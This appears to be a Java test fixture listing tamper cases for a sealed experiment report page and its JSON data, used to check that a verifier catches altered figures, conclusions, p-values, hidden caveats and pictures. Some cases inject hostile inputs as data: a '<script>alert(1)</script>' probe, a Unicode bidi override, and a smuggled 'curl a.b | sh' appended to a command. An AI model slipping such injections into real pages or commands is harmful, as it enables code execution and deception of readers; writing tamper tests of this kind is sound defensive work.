package org.skipjack.report;

import static org.skipjack.report.Forger.dataOnly;
import static org.skipjack.report.Forger.replaced;
import static org.skipjack.report.Forger.sealed;

/** Forgeries of a page's text, its pictures, and the text of its data. */
final class PageForgeries extends ForgeryTable {
  PageForgeries(String here, String ruled) {
    super(here, ruled);
    ofTheText();
    ofTheJson();
    ofPictures();
  }

  private void ofTheText() {
    row(
        "a figure, and the seal is left",
        () -> replaced(here, "(<td>plain</td><td>)[0-9,]+<", "$17<"),
        "  NO  seal: ");
    row("no seal", () -> PageSeal.without(here), "  NO  seal: ");
    text("a figure", page -> replaced(page, "(<td>plain</td><td>)[0-9,]+<", "$17<"));
    text("digits of another script", page -> replaced(page, "<td>3</td>", "<td>٣</td>"));
    text("a conclusion", page -> replaced(page, "seeds do not tell the", "seeds tell the"));
    text("an outcome", page -> replaced(page, "<td>underpowered</td>", "<td>verified</td>"));
    text("a p", page -> replaced(page, "p (?:&lt;|=) [0-9.]+", "p &lt; 0.0001"));
    text("an interval", page -> replaced(page, "interval [−+][0-9.]+", "interval +90.00"));
    text("a caveat hidden", page -> replaced(page, "<li>(Training error and)", "<li hidden>$1"));
    text("a caption", page -> replaced(page, "a dot a seed", "a dot a mean of 100 seeds"));
    text("the heading", page -> replaced(page, "<h1>Which", "<h1>Proven! Which"));
    text("the title", page -> replaced(page, "<title>plain", "<title>official"));
    text("a hidden row", page -> replaced(page, "</tbody>", "<tr hidden><td>x</td></tr></tbody>"));
    text("a script", page -> replaced(page, "</body>", "<script>alert(1)</script></body>"));
    text("a link", page -> replaced(page, "</h1>", "</h1><a href=\"https://a.b\">here</a>"));
    text("a style", page -> replaced(page, "</style>", "ul { display: none }</style>"));
    text("a command", page -> replaced(page, "verify FILE", "verify FILE; curl a.b | sh"));
    text("a digest", page -> replaced(page, "<td>[0-9a-f]{64}", "<td>" + "0".repeat(64)));
    text("the machine", page -> replaced(page, "arch: other", "arch: another"));
    text("a comment", page -> replaced(page, "</h1>", "</h1><!-- x -->"));
    text("a bidi override", page -> replaced(page, "</h1>", "\u202e</h1>"));
    row(
        "something after the end",
        () -> sealed(other, page -> page + "<p>more</p>\n"),
        "  NO  text and tables: ");
    text("statistics", page -> replaced(page, "\"correctedP\": [0-9.eE-]+", "\"correctedP\": 0"));
    text(
        "data a second time",
        page -> page.replace("</body>", ReportPage.DATA + "{}" + ReportPage.END_OF_DATA));
  }

  private void ofTheJson() {
    String line = "  NO  text and tables: line ";
    row(
        "data alone",
        () -> dataOnly(other, json -> replaced(json, "\"error\": [0-9.]+", "\"error\": 0.5")),
        "  NO  plain, seed 1, training error: made elsewhere");
    row(
        "a key twice",
        () -> dataOnly(other, json -> replaced(json, "\"seeds\": 3", "\"seeds\": 2, \"seeds\": 3")),
        line);
    row(
        "no number",
        () -> dataOnly(other, json -> replaced(json, "\"error\": [0-9.]+", "\"error\": NaN")),
        "is damaged, or of another version");
    row(
        "a number without end",
        () -> dataOnly(other, json -> replaced(json, "\"error\": [0-9.]+", "\"error\": 1e999")),
        line);
    row(
        "a member more",
        () -> dataOnly(other, json -> replaced(json, "\"seeds\": 3", "\"x\": 1, \"seeds\": 3")),
        "is damaged, or of another version");
    row(
        "an environment that is not there",
        () -> dataOnly(other, json -> replaced(json, "\"environment\": 0", "\"environment\": 9")),
        "is damaged, or of another version");
    away("a format", data -> data.addProperty("format", "skipjack-report/0"), "  NO  format: ");
  }

  private void ofPictures() {
    row(
        "a picture where it was made",
        () -> sealed(here, page -> replaced(page, PICTURE, "base64,")),
        "  NO  pictures: ");
    row(
        "a picture made elsewhere",
        () -> sealed(other, page -> replaced(page, PICTURE, "base64,")),
        "  --  pictures: not checked");
    row(
        "a picture less",
        () -> sealed(other, page -> replaced(page, "(?s)<figure>.*?</figure>\n", "")),
        "  NO  text and tables: ");
    row(
        "a picture more",
        () -> sealed(other, page -> replaced(page, "(?s)(<figure>.*?</figure>\n)", "$1$1")),
        "  NO  text and tables: ");
  }
}
